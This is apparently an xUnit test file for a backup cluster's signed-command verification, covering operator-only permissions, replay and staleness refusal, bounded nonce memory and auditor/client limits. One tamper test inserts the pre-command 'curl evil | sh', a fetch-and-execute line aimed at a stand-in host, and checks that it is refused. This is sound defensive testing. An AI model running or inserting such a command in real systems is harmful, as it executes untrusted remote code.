using System.Security.Cryptography.X509Certificates;
using ActorBackup.Cluster.Trust;
using ActorBackup.Protocol;
using ActorBackup.Protocol.Trust;

namespace ActorBackup.Cluster.Tests;

/// <summary>
/// The manager takes an operator-only command only as an operator's shell signed it: an operator certificate of the
/// cell, fresh, never seen before, unchanged; not from a node relaying it, an integrator or a client host.
/// </summary>
public sealed class CallerSignatureTests : IDisposable
{
    private readonly TestTrust _cell = new();
    private readonly NodeTrust _manager;
    private readonly X509Certificate2 _operator, _integrator, _clientHost;
    private static readonly DateTimeOffset Now = DateTimeOffset.UtcNow;
    private static readonly DefineBackupSet Set = new() { Set = new BackupSetDefinition { Name = "etc", Client = "web1", Paths = { "/etc" }, PreCommand = "pg_dump > /var/db.sql" } };

    public CallerSignatureTests()
    {
        var manager = CellIdentity.Of(CellRole.Node, "mgr", "", ["manager"]);
        _manager = new NodeTrust(_cell.Dir, X509CertificateLoader.LoadCertificate(_cell.Ca.RawData), _cell.Issue(manager).Certificate, manager);
        _operator = _cell.Issue(CellIdentity.Of(CellRole.Operator, "alice")).Certificate;
        _integrator = _cell.Issue(CellIdentity.Of(CellRole.Integrator, "ci")).Certificate;
        _clientHost = _cell.Issue(CellIdentity.Of(CellRole.Client, "web1", "web1")).Certificate;
    }

    public void Dispose()
    {
        _manager.Dispose();
        _operator.Dispose();
        _integrator.Dispose();
        _clientHost.Dispose();
        _cell.Dispose();
    }

    private object? Open(CallerSigned signed, out string refusal, CallerNonces? nonces = null, DateTimeOffset? at = null) =>
        CallerSignatures.Open(_manager, signed, at ?? Now, nonces ?? new CallerNonces(), out refusal);

    [Fact]
    public void An_operators_signed_command_is_taken_once()
    {
        var nonces = new CallerNonces();
        var signed = OperatorCommands.Sign(Set, _operator, Now);
        Assert.Equal(Set, Open(signed, out _, nonces));
        Assert.Null(Open(signed, out var again, nonces)); // replayed by a node that relayed it
        Assert.Contains("given before", again);
        Assert.NotNull(Open(OperatorCommands.Sign(Set, _operator, Now), out _, nonces)); // the same command signed anew
    }

    [Fact]
    public void Only_an_operator_certificate_of_the_cell_signs_an_operator_only_command()
    {
        Assert.Null(Open(OperatorCommands.Sign(Set, _integrator, Now), out var byIntegrator));
        Assert.Contains("only an operator certificate may give it", byIntegrator);
        Assert.Null(Open(OperatorCommands.Sign(Set, _clientHost, Now), out var byClient));
        Assert.Contains("only an operator certificate", byClient);
        Assert.Null(Open(OperatorCommands.Sign(Set, _manager.Certificate, Now), out var byNode)); // a node relaying it in the operator's name
        Assert.Contains("only an operator certificate", byNode);
        using var elsewhere = new TestTrust("elsewhere");
        using var stranger = elsewhere.Issue(CellIdentity.Of(CellRole.Operator, "alice")).Certificate;
        Assert.Null(Open(OperatorCommands.Sign(Set, stranger, Now), out var foreign));
        Assert.Contains("not from this cell's CA", foreign);
    }

    [Fact]
    public void An_auditors_certificate_signs_the_looks_and_the_audit_trails_read_and_nothing_else()
    {
        var carol = CellIdentity.Of(CellRole.Auditor, "carol");
        using var auditor = _cell.Issue(carol).Certificate;
        Assert.Equal(carol, CellIdentity.From(auditor));
        var manager = OperatorCommands.Signed.Concat(OperatorCommands.CatalogLooks).ToHashSet(); // what the manager opens
        object? As(Google.Protobuf.IMessage m, out string refusal) => CallerSignatures.Open(_manager, OperatorCommands.Sign(m, auditor, Now), Now, new CallerNonces(), out refusal, manager);
        Assert.IsType<ListSnapshots>(As(new ListSnapshots(), out _));
        Assert.IsType<ListAudit>(As(new ListAudit(), out _));
        Assert.Null(As(Set, out var define));
        Assert.Contains("only an operator certificate may give it", define);
        Assert.Null(As(new StartRestore { Snapshot = "latest", Target = "/r" }, out var restore));
        Assert.Contains("only an operator, integrator or client certificate may give it", restore);
        // At the operator endpoint: the looks and the trail; no file names, no job, no change.
        Assert.Null(ActorBackup.Cluster.Ops.OpsPermissions.Refusal(carol, new ListAudit()));
        Assert.Null(ActorBackup.Cluster.Ops.OpsPermissions.Refusal(carol, new ListJobs()));
        foreach (var no in new Google.Protobuf.IMessage[] { new ListSnapshotTree(), new FindFiles(), new StartBackup(), new DeleteSnapshots(), new ChangeMember() })
            Assert.Contains("an auditor's certificate reads the catalog", ActorBackup.Cluster.Ops.OpsPermissions.Refusal(carol, no));
        Assert.Contains("may not read the audit trail", ActorBackup.Cluster.Ops.OpsPermissions.Refusal(CellIdentity.Of(CellRole.Integrator, "ci"), new ListAudit()));
        // A node that relays an auditor's signed ls to the client node gets no tree there either.
        var tree = OperatorCommands.Sign(new ListSnapshotTree { Snapshot = "s1" }, auditor, Now);
        Assert.Null(LookSignatures.Caller(_manager, tree, tree.Type, Now, out var look, out var lsRefused));
        Assert.Null(look);
        Assert.Contains("an auditor's certificate reads the catalog", lsRefused);
        var byOperator = OperatorCommands.Sign(new ListSnapshotTree { Snapshot = "s1" }, _operator, Now);
        Assert.NotNull(LookSignatures.Caller(_manager, byOperator, byOperator.Type, Now, out _, out _));
    }

    [Fact]
    public void A_changed_stale_or_unlisted_command_is_refused()
    {
        var changed = OperatorCommands.Sign(Set, _operator, Now);
        var evil = Set.Clone();
        evil.Set.PreCommand = "curl evil | sh";
        changed.Body = Google.Protobuf.ByteString.CopyFrom(Google.Protobuf.MessageExtensions.ToByteArray(evil));
        Assert.Null(Open(changed, out var why));
        Assert.Contains("does not check", why);

        Assert.Null(Open(OperatorCommands.Sign(Set, _operator, Now - TimeSpan.FromMinutes(20)), out var stale));
        Assert.Contains("clocks", stale);
        Assert.Null(Open(OperatorCommands.Sign(Set, _operator, Now + TimeSpan.FromMinutes(20)), out _));

        // Only the listed commands go signed: a job's end or a registration is not an operator's to give this way.
        Assert.Null(Open(OperatorCommands.Sign(new JobFinished { Job = "1", Ok = true }, _operator, Now), out var unlisted));
        Assert.Contains("not a command that goes signed", unlisted);
        var unsigned = new CallerSigned { Type = DefineBackupSet.Descriptor.Name, Body = Google.Protobuf.MessageExtensions.ToByteString(Set), UnixMs = Now.ToUnixTimeMilliseconds() };
        Assert.Null(Open(unsigned, out var none));
        Assert.Contains("not signed", none);
    }

    [Fact]
    public void The_nonces_remembered_are_bounded()
    {
        var nonces = new CallerNonces();
        var keep = Now + 2 * OperatorCommands.Window;
        Assert.True(nonces.FirstSight("a", keep, Now));
        Assert.False(nonces.FirstSight("a", keep, Now));
        // Once its command would be refused as stale anyway, it is forgotten.
        var later = keep + TimeSpan.FromSeconds(1);
        Assert.True(nonces.FirstSight("b", later + OperatorCommands.Window, later));
        Assert.True(nonces.FirstSight("a", later + OperatorCommands.Window, later));

        // Full of nonces in their window (many signers): a new one is refused; none of those is forgotten (a captured
        // command could be replayed once its nonce was pushed out).
        var full = new CallerNonces();
        for (var i = 0; i < CallerNonces.Capacity; i++) Assert.True(full.FirstSight($"n{i}", keep, Now, $"signer{i / CallerNonces.PerSigner}"));
        Assert.False(full.FirstSight("new", keep, Now, "another"));
        Assert.False(full.FirstSight("n0", keep, Now, "signer0"));
        Assert.True(full.FirstSight("new", later + OperatorCommands.Window, later, "another")); // once they are stale
    }

    [Fact]
    public void A_client_lists_or_searches_only_for_a_request_its_shell_signed()
    {
        var ls = new ListSnapshotTree { Snapshot = "latest", Path = "/etc" };
        CellIdentity? Caller(CallerSigned? proof, out string refusal) =>
            LookSignatures.Caller(_manager, proof, ListSnapshotTree.Descriptor.Name, Now, out _, out refusal);

        Assert.Equal(CellRole.Operator, Caller(OperatorCommands.Sign(ls, _operator, Now), out _)!.Role);
        Assert.Equal("web1", Caller(OperatorCommands.Sign(ls, _clientHost, Now), out _)!.Client);
        // A node that relays (or makes up) a look without a shell's signature, or signs it itself: refused.
        Assert.Null(Caller(null, out var none));
        Assert.Contains("without its shell's signature", none);
        Assert.Null(Caller(OperatorCommands.Sign(ls, _manager.Certificate, Now), out var byNode));
        Assert.Contains("no shell's certificate", byNode);
        Assert.Null(Caller(OperatorCommands.Sign(ls, _operator, Now - TimeSpan.FromHours(1)), out var stale));
        Assert.Contains("clocks", stale);
        Assert.Null(Caller(OperatorCommands.Sign(new FindFiles { Pattern = "*" }, _operator, Now), out _)); // another command's signature

        // What was signed is what is listed: the path, the snapshot, and for a client host its own client.
        var alice = CellIdentity.Of(CellRole.Operator, "alice");
        var web1 = CellIdentity.Of(CellRole.Client, "web1", "web1");
        Assert.Null(LookSignatures.ListRefusal(alice, ls, "0a1b2c", "db1", "/etc"));
        Assert.Contains("path", LookSignatures.ListRefusal(alice, ls, "0a1b2c", "db1", "/root"));
        Assert.Contains("not 0a1b2c", LookSignatures.ListRefusal(alice, new ListSnapshotTree { Snapshot = "ffee", Path = "/etc" }, "0a1b2c", "db1", "/etc"));
        Assert.Null(LookSignatures.ListRefusal(alice, new ListSnapshotTree { Snapshot = "0a1b", Path = "/etc" }, "0a1b2c", "db1", "/etc"));
        Assert.Contains("its own snapshots only", LookSignatures.ListRefusal(web1, ls, "0a1b2c", "db1", "/etc"));
        Assert.Null(LookSignatures.ListRefusal(web1, ls, "0a1b2c", "web1", "/etc"));

        var find = new FindFiles { Pattern = "*.conf" };
        var search = new SearchFileIndex { Query = new FindFiles { Pattern = "*.conf", Client = "web1" }, Snapshots = { new IndexedSnapshot { Id = "1", Client = "web1" } } };
        Assert.Null(LookSignatures.FindRefusal(web1, find, search));
        Assert.Contains("signed for", LookSignatures.FindRefusal(web1, new FindFiles { Pattern = "*" }, search));
        search.Snapshots.Add(new IndexedSnapshot { Id = "2", Client = "db1" });
        Assert.Contains("its own snapshots only", LookSignatures.FindRefusal(web1, find, search));
        // An operator's find goes as signed: a relaying node cannot turn it onto one client, or widen its limit.
        Assert.Contains("signed for", LookSignatures.FindRefusal(alice, find, search));
        Assert.Null(LookSignatures.FindRefusal(alice, find, new SearchFileIndex { Query = find.Clone() }));
        Assert.Contains("signed for", LookSignatures.FindRefusal(alice, find, new SearchFileIndex { Query = new FindFiles { Pattern = "*.conf", Limit = 20000 } }));
        Assert.Contains("without a query", LookSignatures.FindRefusal(alice, find, new SearchFileIndex()));
    }

    [Fact]
    public void Snapshots_found_in_a_library_are_recorded_only_for_an_operators_rebuild_of_it_once()
    {
        var nonces = new CallerNonces();
        var asked = OperatorCommands.Sign(new RebuildCatalog { Library = "lib1" }, _operator, Now);
        Assert.Contains("operator's 'abk catalog rebuild'", RebuildProof.Refusal(_manager, new RecordSnapshots { Library = "lib1" }, Now, nonces));
        Assert.Contains("not lib2", RebuildProof.Refusal(_manager, new RecordSnapshots { Library = "lib2", Caller = asked }, Now, new CallerNonces()));
        Assert.Null(RebuildProof.Refusal(_manager, new RecordSnapshots { Library = "lib1", Caller = asked }, Now, new CallerNonces()));
        Assert.Null(RebuildProof.Refusal(_manager, new RecordSnapshots { Library = "lib1", Caller = asked }, Now, nonces));
        Assert.Contains("given before", RebuildProof.Refusal(_manager, new RecordSnapshots { Library = "lib1", Caller = asked }, Now, nonces));
        // A rebuild of a big library takes a while: its findings come hours after the request, still taken.
        var slow = OperatorCommands.Sign(new RebuildCatalog { Library = "lib1" }, _operator, Now);
        Assert.Null(RebuildProof.Refusal(_manager, new RecordSnapshots { Library = "lib1", Caller = slow }, Now + TimeSpan.FromHours(2), nonces));
        var byIntegrator = OperatorCommands.Sign(new RebuildCatalog { Library = "lib1" }, _integrator, Now);
        Assert.Contains("only an operator certificate", RebuildProof.Refusal(_manager, new RecordSnapshots { Library = "lib1", Caller = byIntegrator }, Now, nonces));
        // A media agent scans its library (every volume read whole) for that request too, once: a client node cannot
        // have it scan again and again, nor scan another library than the one the operator named.
        var scans = new CallerNonces();
        Assert.Contains("scanned for its manifests only for an operator's", RebuildProof.Refusal(_manager, new ListManifests { Library = "lib1" }, Now, scans));
        Assert.Contains("not lib2", RebuildProof.Refusal(_manager, new ListManifests { Library = "lib2", Caller = asked }, Now, new CallerNonces()));
        Assert.Null(RebuildProof.Refusal(_manager, new ListManifests { Library = "lib1", Caller = asked }, Now, scans));
        Assert.Contains("given before", RebuildProof.Refusal(_manager, new ListManifests { Library = "lib1", Caller = asked }, Now, scans));
    }

    [Fact]
    public void A_job_command_is_taken_signed_by_an_integrator_or_a_client_host_and_one_signer_cannot_flood_out_anothers_nonces()
    {
        var backup = new StartBackup { Paths = { "/srv" } };
        Assert.Equal(backup, Open(OperatorCommands.Sign(backup, _integrator, Now), out _));
        Assert.Equal(backup, Open(OperatorCommands.Sign(backup, _clientHost, Now), out _));
        // An operator-only command stays an operator's.
        Assert.Null(Open(OperatorCommands.Sign(Set, _clientHost, Now), out var refused));
        Assert.Contains("only an operator certificate", refused);

        var nonces = new CallerNonces();
        var until = Now + TimeSpan.FromMinutes(10);
        for (var i = 0; i < CallerNonces.PerSigner; i++) Assert.True(nonces.FirstSight($"flood-{i}", until, Now, "client host-b"));
        Assert.False(nonces.FirstSight("one-more", until, Now, "client host-b")); // that signer is full...
        Assert.True(nonces.FirstSight("operator's", until, Now, "operator alice")); // ...and nobody else's nonce went
        Assert.False(nonces.FirstSight("operator's", until, Now, "operator alice"));
        Assert.True(nonces.FirstSight("later", until + TimeSpan.FromMinutes(20), until + TimeSpan.FromMinutes(1), "client host-b")); // the window passed
    }
}
